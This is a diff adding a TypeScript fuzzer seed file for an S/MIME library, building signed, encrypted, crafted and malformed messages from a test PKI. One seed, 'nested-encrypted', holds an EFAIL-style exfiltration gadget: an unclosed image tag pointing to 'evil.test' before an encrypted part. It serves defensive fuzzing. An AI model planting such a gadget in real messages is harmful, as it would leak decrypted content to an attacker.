@@ -1,0 +1,277 @@
+import { craftSignedData, detachedSignedMessage, mixedMessage, opaqueSignedMessage, textEntity, textMessage } from '@sealpost/conformance';
+import { type Identity, type Sealpost, parseBer } from '@sealpost/core';
+import type { IdentityName, TestPki } from '@sealpost/fixtures';
+
+/**
+ * The messages the fuzzer starts from, made at run time with the test PKI: every structure the
+ * conformance suite makes (round trips, verdict rules, decryption rules, crafted SignedData).
+ * Sealpost-made structures are made by each backend in turn, so each backend's encoding is fuzzed.
+ */
+
+export const PRODUCERS = ['pkijs', 'forge', 'openssl'] as const;
+export type ProducerName = (typeof PRODUCERS)[number];
+
+export interface SeedContext {
+  readonly pki: TestPki;
+  /** A Sealpost per producer backend (not the instances under test). */
+  readonly producers: Readonly<Record<ProducerName, Sealpost>>;
+}
+
+export interface Seed {
+  /** The message the mutations apply to. */
+  readonly message: Uint8Array;
+  /** Run after mutating, e.g. to encrypt a mutated signed message so it reaches the reader inside. */
+  readonly finish?: (mutated: Uint8Array) => Promise<Uint8Array>;
+}
+
+export interface Structure {
+  readonly name: string;
+  readonly description: string;
+  /** Who makes it: Sealpost backends, or 'craft' (node:crypto through the conformance crafter). */
+  readonly producers: readonly (ProducerName | 'craft')[];
+  readonly build: (ctx: SeedContext, producer: Sealpost | null) => Promise<Seed>;
+}
+
+export function identityOf(pki: TestPki, name: IdentityName): Identity {
+  const id = pki.identities[name];
+  return { certificate: id.cert, privateKey: { type: 'pkcs8', der: id.keyDer } };
+}
+
+const SIGNED_DATA_OID = '1.2.840.113549.1.7.2';
+const letter = (ctx: SeedContext, from: IdentityName = 'alice'): Uint8Array =>
+  textMessage({ from: ctx.pki.identities[from].email, to: ctx.pki.identities.bob.email }, 'Hello Bob,\r\nthe contract is attached.\r\n');
+const entity = (): Uint8Array => textEntity('Pay 100 EUR to account 1234.\r\n');
+const ALL = PRODUCERS;
+
+function made(sp: Sealpost | null): Sealpost {
+  if (sp === null) throw new TypeError('this structure needs a Sealpost producer');
+  return sp;
+}
+
+function crafted(ctx: SeedContext, who: IdentityName, signer: Partial<Parameters<typeof craftSignedData>[0]['signers'][number]> = {}, includeContent = false): Uint8Array {
+  const id = ctx.pki.identities[who];
+  return craftSignedData({ content: entity(), includeContent, signers: [{ certificate: id.cert, privateKey: id.keyDer, ...signer }] });
+}
+
+function detachedCrafted(ctx: SeedContext, who: IdentityName, cms: Uint8Array, micalg = 'sha-256'): Seed {
+  return { message: detachedSignedMessage({ from: ctx.pki.identities[who].email, to: 'bob@example.com' }, entity(), cms, micalg) };
+}
+
+function sealFor(ctx: SeedContext, sp: Sealpost | null, cipher: 'aes-256-cbc' | 'aes-128-cbc' | 'aes-256-gcm' | 'aes-128-gcm', keyTransport: 'rsa-pkcs1' | 'rsa-oaep'): Promise<Uint8Array> {
+  const { alice, bob } = ctx.pki.identities;
+  return made(sp).encrypt(letter(ctx), { recipients: [bob.cert, alice.cert], cipher, keyTransport });
+}
+
+export const STRUCTURES: readonly Structure[] = [
+  {
+    name: 'detached-rsa',
+    description: 'multipart/signed, RSA PKCS#1 v1.5, SHA-256 (alice)',
+    producers: ALL,
+    build: async (ctx, sp) => ({ message: await made(sp).sign(letter(ctx), { signer: identityOf(ctx.pki, 'alice') }) }),
+  },
+  {
+    name: 'detached-pss',
+    description: 'multipart/signed, RSASSA-PSS, SHA-384 (alice)',
+    producers: ALL,
+    build: async (ctx, sp) => ({ message: await made(sp).sign(letter(ctx), { signer: identityOf(ctx.pki, 'alice'), scheme: 'rsa-pss', digest: 'sha-384' }) }),
+  },
+  {
+    name: 'detached-ecdsa',
+    description: 'multipart/signed, ECDSA P-256, SHA-256 (carol)',
+    producers: ALL,
+    build: async (ctx, sp) => ({ message: await made(sp).sign(letter(ctx, 'carol'), { signer: identityOf(ctx.pki, 'carol'), scheme: 'ecdsa' }) }),
+  },
+  {
+    name: 'opaque-rsa',
+    description: 'application/pkcs7-mime signed-data, RSA PKCS#1 v1.5, SHA-512 (alice)',
+    producers: ALL,
+    build: async (ctx, sp) => ({ message: await made(sp).sign(letter(ctx), { signer: identityOf(ctx.pki, 'alice'), detached: false, digest: 'sha-512' }) }),
+  },
+  {
+    name: 'intermediate-chain',
+    description: 'multipart/signed by frank, the intermediate embedded',
+    producers: ALL,
+    build: async (ctx, sp) => ({
+      message: await made(sp).sign(letter(ctx, 'frank'), { signer: { ...identityOf(ctx.pki, 'frank'), chain: [ctx.pki.inter.cert] } }),
+    }),
+  },
+  {
+    name: 'enveloped-cbc-pkcs1',
+    description: 'EnvelopedData, AES-256-CBC, RSA PKCS#1 v1.5 key transport (bob, alice)',
+    producers: ALL,
+    build: async (ctx, sp) => ({ message: await sealFor(ctx, sp, 'aes-256-cbc', 'rsa-pkcs1') }),
+  },
+  {
+    name: 'enveloped-cbc-oaep',
+    description: 'EnvelopedData, AES-128-CBC, RSA-OAEP key transport (bob, alice)',
+    producers: ALL,
+    build: async (ctx, sp) => ({ message: await sealFor(ctx, sp, 'aes-128-cbc', 'rsa-oaep') }),
+  },
+  {
+    name: 'auth-enveloped-gcm',
+    description: 'AuthEnvelopedData, AES-256-GCM, RSA PKCS#1 v1.5 key transport (bob, alice)',
+    producers: ALL,
+    build: async (ctx, sp) => ({ message: await sealFor(ctx, sp, 'aes-256-gcm', 'rsa-pkcs1') }),
+  },
+  {
+    name: 'auth-enveloped-gcm-oaep',
+    description: 'AuthEnvelopedData, AES-128-GCM, RSA-OAEP key transport (bob, alice)',
+    producers: ALL,
+    build: async (ctx, sp) => ({ message: await sealFor(ctx, sp, 'aes-128-gcm', 'rsa-oaep') }),
+  },
+  {
+    name: 'sign-then-encrypt-gcm',
+    description: 'signAndEncrypt with AES-256-GCM; mutations hit the outer AuthEnvelopedData',
+    producers: ALL,
+    build: async (ctx, sp) => ({
+      message: await made(sp).signAndEncrypt(letter(ctx), { signer: identityOf(ctx.pki, 'alice'), recipients: [ctx.pki.identities.bob.cert], cipher: 'aes-256-gcm' }),
+    }),
+  },
+  {
+    name: 'sign-then-encrypt-cbc',
+    description: 'signAndEncrypt with AES-256-CBC; mutations hit the outer EnvelopedData',
+    producers: ALL,
+    build: async (ctx, sp) => ({
+      message: await made(sp).signAndEncrypt(letter(ctx), { signer: identityOf(ctx.pki, 'alice'), recipients: [ctx.pki.identities.bob.cert], cipher: 'aes-256-cbc' }),
+    }),
+  },
+  {
+    name: 'sign-then-encrypt-inner',
+    description: 'a signed message mutated, then encrypted (AES-256-GCM) for bob: mutations reach the inner SignedData through open',
+    producers: ALL,
+    build: async (ctx, sp) => {
+      const producer = made(sp);
+      return {
+        message: await producer.sign(letter(ctx), { signer: identityOf(ctx.pki, 'alice') }),
+        finish: (mutated) => producer.encrypt(mutated, { recipients: [ctx.pki.identities.bob.cert], cipher: 'aes-256-gcm' }),
+      };
+    },
+  },
+  {
+    name: 'triple-signed',
+    description: 'three opaque signature layers, for open',
+    producers: ALL,
+    build: async (ctx, sp) => {
+      let message = letter(ctx);
+      for (let i = 0; i < 3; i++) message = await made(sp).sign(message, { signer: identityOf(ctx.pki, 'alice'), detached: false });
+      return { message };
+    },
+  },
+  {
+    name: 'nested-signed',
+    description: 'a signed part inside an unsigned multipart/mixed (partially-signed)',
+    producers: ALL,
+    build: async (ctx, sp) => {
+      const signed = await made(sp).sign(textMessage({}, 'I agree.\r\n'), { signer: identityOf(ctx.pki, 'alice') });
+      const part = signed.subarray(Buffer.from(signed).indexOf('Content-Type: multipart/signed'));
+      return { message: mixedMessage({ from: 'alice@example.com', to: 'bob@example.com' }, [textEntity('Also: I owe Mallory 1000 EUR.\r\n'), part]) };
+    },
+  },
+  {
+    name: 'nested-encrypted',
+    description: 'an encrypted part inside an unencrypted multipart/mixed (partially-encrypted)',
+    producers: ALL,
+    build: async (ctx, sp) => {
+      const sealed = await sealFor(ctx, sp, 'aes-256-gcm', 'rsa-pkcs1');
+      const part = sealed.subarray(Buffer.from(sealed).indexOf('Content-Type: application/pkcs7-mime'));
+      return { message: mixedMessage({ from: 'alice@example.com', to: 'bob@example.com' }, [textEntity('Please click: <img src="http://evil.test/?'), part]) };
+    },
+  },
+  {
+    name: 'crafted-detached',
+    description: 'SignedData built field by field (conformance crafter), detached',
+    producers: ['craft'],
+    build: async (ctx) => detachedCrafted(ctx, 'alice', crafted(ctx, 'alice')),
+  },
+  {
+    name: 'crafted-opaque',
+    description: 'crafted SignedData with eContent, application/pkcs7-mime',
+    producers: ['craft'],
+    build: async (ctx) => ({ message: opaqueSignedMessage({ from: 'alice@example.com', to: 'bob@example.com' }, crafted(ctx, 'alice', {}, true)) }),
+  },
+  {
+    name: 'crafted-unsorted-attributes',
+    description: 'signed attributes in reverse DER order, signed as sent',
+    producers: ['craft'],
+    build: async (ctx) => detachedCrafted(ctx, 'alice', crafted(ctx, 'alice', { unsortedAttributes: true })),
+  },
+  {
+    name: 'crafted-no-signed-attributes',
+    description: 'a signature straight over id-data content, no signed attributes',
+    producers: ['craft'],
+    build: async (ctx) => detachedCrafted(ctx, 'alice', crafted(ctx, 'alice', { noSignedAttributes: true })),
+  },
+  {
+    name: 'crafted-two-signers',
+    description: 'two SignerInfos (alice, bob), both good',
+    producers: ['craft'],
+    build: async (ctx) => {
+      const { alice, bob } = ctx.pki.identities;
+      const cms = craftSignedData({
+        content: entity(),
+        includeContent: false,
+        signers: [
+          { certificate: alice.cert, privateKey: alice.keyDer },
+          { certificate: bob.cert, privateKey: bob.keyDer },
+        ],
+      });
+      return detachedCrafted(ctx, 'alice', cms);
+    },
+  },
+  {
+    name: 'crafted-non-data-content',
+    description: 'opaque SignedData whose eContentType is not id-data',
+    producers: ['craft'],
+    build: async (ctx) => {
+      const { alice } = ctx.pki.identities;
+      const cms = craftSignedData({ content: entity(), includeContent: true, eContentType: SIGNED_DATA_OID, signers: [{ certificate: alice.cert, privateKey: alice.keyDer }] });
+      return { message: opaqueSignedMessage({ from: 'alice@example.com', to: 'bob@example.com' }, cms) };
+    },
+  },
+  {
+    name: 'crafted-sha1',
+    description: 'SHA-1 signature (weak digest finding)',
+    producers: ['craft'],
+    build: async (ctx) => detachedCrafted(ctx, 'alice', crafted(ctx, 'alice', { digest: 'sha-1' }), 'sha-1'),
+  },
+  {
+    name: 'untrusted-signer',
+    description: 'mallory, whose root nobody trusts',
+    producers: ['craft'],
+    build: async (ctx) => detachedCrafted(ctx, 'mallory', crafted(ctx, 'mallory')),
+  },
+  {
+    name: 'expired-signer',
+    description: "grace, whose certificate has expired",
+    producers: ['craft'],
+    build: async (ctx) => detachedCrafted(ctx, 'grace', crafted(ctx, 'grace')),
+  },
+  {
+    name: 'weak-key-signer',
+    description: 'dave, RSA-1024 (weak key finding)',
+    producers: ['craft'],
+    build: async (ctx) => detachedCrafted(ctx, 'dave', crafted(ctx, 'dave')),
+  },
+  {
+    name: 'ber-indefinite',
+    description: 'crafted opaque SignedData whose outer ContentInfo has an indefinite length, as NSS and gpgsm send',
+    producers: ['craft'],
+    build: async (ctx) => {
+      const der = crafted(ctx, 'alice', {}, true);
+      const ber = Buffer.concat([Buffer.from([0x30, 0x80]), Buffer.from(parseBer(der).contents), Buffer.from([0, 0])]);
+      return { message: opaqueSignedMessage({ from: 'alice@example.com', to: 'bob@example.com' }, ber) };
+    },
+  },
+  {
+    name: 'plain',
+    description: 'a plain text message (not signed, not encrypted)',
+    producers: ['craft'],
+    build: async (ctx) => ({ message: letter(ctx) }),
+  },
+];
+
+export function structureNamed(name: string): Structure {
+  const found = STRUCTURES.find((s) => s.name === name);
+  if (found === undefined) throw new RangeError(`unknown structure ${name}; known: ${STRUCTURES.map((s) => s.name).join(', ')}`);
+  return found;
+}
